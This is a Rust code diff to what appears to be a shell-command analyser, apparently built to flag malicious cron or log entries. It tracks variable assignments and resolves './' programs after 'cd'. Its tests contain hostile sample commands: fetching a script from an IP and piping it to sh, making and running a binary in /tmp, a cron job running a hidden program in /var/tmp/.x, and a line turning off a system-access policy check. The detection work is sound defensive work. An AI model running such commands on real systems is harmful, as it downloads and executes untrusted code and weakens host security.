@@ -202,7 +202,35 @@ fn analyse(cmd: &[u8]) -> Vec<Simple> {
             out[i].acting = true;
         }
     }
+    // An assignment whose variable a command that acts uses (`x=/tmp/bsd; chmod +x $x; $x`)
+    // is part of that action.
+    let used: Vec<Vec<u8>> = out
+        .iter()
+        .filter(|s| s.acting)
+        .map(|s| text_of(cmd, s))
+        .collect();
+    for (s, w) in out.iter_mut().zip(&words) {
+        if !s.acting && program(w).is_none() {
+            s.acting = w.iter().filter_map(|x| assigned_name(&x.text)).any(|name| {
+                used.iter().any(|u| {
+                    let plain = format!("${name}");
+                    let braced = format!("${{{name}");
+                    memchr::memmem::find(u, plain.as_bytes()).is_some()
+                        || memchr::memmem::find(u, braced.as_bytes()).is_some()
+                })
+            });
+        }
+    }
     out
+}
+
+/// The variable an assignment word sets (`x=...`, `x[3]=...`, `x+=...`).
+fn assigned_name(w: &str) -> Option<&str> {
+    if !is_assignment(w) {
+        return None;
+    }
+    let name = w[..w.find('=')?].trim_end_matches('+');
+    Some(name.split('[').next().unwrap_or(name))
 }
 
 fn text_of(cmd: &[u8], s: &Simple) -> Vec<u8> {
@@ -641,11 +669,29 @@ fn acts(words: &[Word]) -> bool {
 
 /// Appends one line per acting simple command, beginning with the program it runs.
 fn run_lines(cmd: &[u8], simples: &[Simple], depth: usize, out: &mut Vec<u8>) {
-    for s in simples.iter().filter(|s| s.acting) {
-        let w = words(&text_of(cmd, s));
+    // A relative program (`./run`) runs from the folder a `cd` before it went to.
+    let mut cwd: Option<String> = None;
+    for s in simples {
+        let mut w = words(&text_of(cmd, s));
         let Some(mut p) = program(&w) else {
             continue;
         };
+        if w[p].text == "cd" {
+            cwd = w
+                .get(p + 1)
+                .map(|d| d.text.trim_end_matches('/').to_owned());
+            continue;
+        }
+        if !s.acting {
+            continue;
+        }
+        if let Some(dir) = cwd.as_deref().filter(|d| d.starts_with('/')) {
+            for x in w.iter_mut().skip(p).filter(|x| !x.redirect) {
+                if let Some(rel) = x.text.strip_prefix("./") {
+                    x.text = format!("{dir}/{rel}");
+                }
+            }
+        }
         if is_interpreter(&w[p].text) {
             let shell = basename(&w[p].text).ends_with("sh");
             let mut j = p + 1;
@@ -758,6 +804,7 @@ mod tests {
                 "203.0.113.9",
             ),
             ("\"pwd;pwd;pwd;pwd;pwd;\"", "pwd;pwd;pwd;pwd;pwd;"),
+            ("\"x=/tmp/bsd; chmod +x $x; $x\"", "x=/tmp/bsd"),
         ] {
             let a = acting(&format!("{H}{cmd}"));
             assert!(a.contains(kept), "{cmd}: {a}");
@@ -784,6 +831,10 @@ mod tests {
             "curl -s http://203.0.113.9/a\nsh\n"
         );
         assert_eq!(run("# 15 2 * * * /tmp/x", false), "");
+        assert_eq!(
+            run("*/5 * * * * cd /var/tmp/.x && ./run -q", false),
+            "/var/tmp/.x/run -q\n"
+        );
         assert_eq!(
             run("nsapimgr_wr.sh -ys skip_systemaccess_policyeval=0", false),
             "nsapimgr_wr.sh -ys skip_systemaccess_policyeval=0\n"
